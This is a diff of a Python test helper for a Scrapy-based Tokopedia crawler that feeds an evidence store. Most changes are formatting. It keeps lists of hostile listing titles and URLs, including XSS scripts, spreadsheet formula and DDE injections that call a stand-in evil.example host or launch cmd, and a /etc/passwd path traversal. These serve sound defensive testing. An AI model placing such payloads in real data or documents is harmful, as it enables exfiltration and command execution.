@@ -16,7 +16,7 @@ from crawler.store import EvidenceStore
 LONG = "Batik " + "A" * 10_000
 HOSTILE_TITLES = [
     '<script>alert("xss")</script><img src=x onerror=alert(1)>',
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -44,8 +44,8 @@ HOSTILE_SELLERS = [
 ]
 HOSTILE_URLS = [
     "javascript:alert(document.cookie)",
-    "https://www.tokopedia.com/x/\"><script>alert(1)</script>",
-    "=HYPERLINK(\"http://evil\")",
+    'https://www.tokopedia.com/x/"><script>alert(1)</script>',
+    '=HYPERLINK("http://evil")',
     "https://www.tokopedia.com/../../etc/passwd",
     "data:text/html,<script>alert(1)</script>",
     "https://www.tokopedia.com/" + "x" * 10_000,
@@ -156,7 +156,12 @@ def fill_store(
             scored, pages = [], []
             for start in range(0, n, per_page):
                 group = [
-                    _listing(i, hostile=hostile, price=150_000 + 1_000 * i - discount, sold=10 + i + round_no)
+                    _listing(
+                        i,
+                        hostile=hostile,
+                        price=150_000 + 1_000 * i - discount,
+                        sold=10 + i + round_no,
+                    )
                     for i in range(start, min(n, start + per_page))
                 ]
                 body = page_body(group)
@@ -271,7 +276,7 @@ def shop_page(cards: list[str]) -> bytes:
 
 
 def run_cli(args: list[str], *, env: dict[str, str] | None = None, timeout: int = 120):
-    """Run `python -m crawler.cli ...` in a fresh process (Scrapy's reactor runs once per process)."""
+    """Run `python -m MODULE ...` in a fresh process: Scrapy's reactor runs once per process."""
     import os
     import subprocess
     import sys
@@ -291,10 +296,16 @@ def run_cli(args: list[str], *, env: dict[str, str] | None = None, timeout: int 
 def fast_settings(base_url: str) -> list[str]:
     """-s options for a quick crawl of a ShopServer with the test spider."""
     return [
-        "-s", "SPIDER_MODULES=tests.evidence_spiders",
-        "-s", "PATROLI_BASE_URLS=" + json.dumps({"tokopedia": base_url}),
-        "-s", "DOWNLOAD_DELAY=0",
-        "-s", "AUTOTHROTTLE_ENABLED=False",
-        "-s", "LOG_LEVEL=WARNING",
-        "-s", "PATROLI_MATCH=False",
+        "-s",
+        "SPIDER_MODULES=tests.evidence_spiders",
+        "-s",
+        "PATROLI_BASE_URLS=" + json.dumps({"tokopedia": base_url}),
+        "-s",
+        "DOWNLOAD_DELAY=0",
+        "-s",
+        "AUTOTHROTTLE_ENABLED=False",
+        "-s",
+        "LOG_LEVEL=WARNING",
+        "-s",
+        "PATROLI_MATCH=False",
     ]
